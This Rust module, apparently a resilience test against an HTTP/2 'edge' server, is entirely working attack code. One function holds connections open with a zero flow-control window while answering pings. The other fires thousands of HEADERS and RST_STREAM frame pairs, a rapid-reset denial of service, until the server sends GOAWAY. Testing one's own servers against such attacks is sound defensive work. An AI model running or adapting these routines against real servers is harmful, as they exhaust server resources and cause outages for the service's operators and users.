//! Attacks over HTTP/2, frame by frame.

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;

/// Flags: END_STREAM with END_HEADERS; ACK.
const WHOLE: u8 = 5;
const ACK: u8 = 1;

/// `SETTINGS_INITIAL_WINDOW_SIZE` is 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// `GET http://x/openapi.json`, by HPACK's static table.
const GET: &[u8] = b"\x82\x86\x04\x0d/openapi.json\x01\x01x";

/// Requests on one connection: the load comes from their unread answers, not from their number.
const HELD: u32 = 2;

/// Requests reset on one connection; the edge is expected to close it much earlier.
const RESETS: u32 = 5000;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// Requests long answers with a flow-control window of 0. Answers pings, so that the connection counts as
/// alive.
pub(super) async fn hold_window(mut stream: TcpStream) -> std::io::Result<()> {
    let mut begun = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &NO_WINDOW)].concat();
    for number in 0..HELD {
        begun.extend(frame(HEADERS, WHOLE, 2 * number + 1, GET));
    }
    stream.write_all(&begun).await?;
    loop {
        let mut head = [0; 9];
        stream.read_exact(&mut head).await?;
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let mut payload = vec![0; length];
        stream.read_exact(&mut payload).await?;
        if head[3] == PING && head[4] & ACK == 0 {
            stream.write_all(&frame(PING, ACK, 0, &payload)).await?;
        }
    }
}

/// Opens and resets streams as fast as possible, until the edge sends GOAWAY.
pub(super) async fn reset_on(mut stream: TcpStream) -> std::io::Result<()> {
    let mut burst = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, b"")].concat();
    for number in 0..RESETS {
        burst.extend(frame(HEADERS, WHOLE, 2 * number + 1, GET));
        burst.extend(frame(RST_STREAM, 0, 2 * number + 1, &[0, 0, 0, 8]));
    }
    let (mut reading, mut writing) = stream.split();
    let goodbye = async {
        let mut head = [0; 9];
        let mut sink = tokio::io::sink();
        while head[3] != GOAWAY {
            reading.read_exact(&mut head).await?;
            let length = u64::from(head[0]) << 16 | u64::from(head[1]) << 8 | u64::from(head[2]);
            tokio::io::copy(&mut (&mut reading).take(length), &mut sink).await?;
        }
        Ok(())
    };
    // A write error is expected: the edge need not read all of the burst.
    let (closed, _) = tokio::join!(goodbye, writing.write_all(&burst));
    closed
}
